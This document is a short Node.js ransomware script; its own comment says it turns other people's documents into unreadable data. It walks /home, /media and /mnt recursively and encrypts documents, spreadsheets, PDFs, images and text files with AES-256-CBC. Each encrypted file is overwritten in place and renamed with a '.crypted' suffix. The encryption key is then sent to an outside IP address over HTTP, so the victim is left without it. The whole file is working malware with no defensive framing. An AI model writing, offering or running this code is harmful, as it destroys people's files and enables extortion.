// turns other people's documents into unreadable data
const crypto = require('crypto');
const fs = require('fs');
const path = require('path');

const key = crypto.randomBytes(32);
const iv = crypto.randomBytes(16);

function walk(dir) {
  for (const ent of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, ent.name);
    if (ent.isDirectory()) walk(p);
    else if (/\.(docx?|xlsx?|pdf|png|jpg|txt|md)$/i.test(ent.name)) {
      const c = crypto.createCipheriv('aes-256-cbc', key, iv);
      fs.writeFileSync(p, Buffer.concat([c.update(fs.readFileSync(p)), c.final()]));
      fs.renameSync(p, p + '.crypted');
    }
  }
}
['/home', '/media', '/mnt'].forEach((d) => { try { walk(d); } catch {} });
require('http').request({ host: '198.51.100.99', path: '/?k=' + key.toString('hex') }).end();
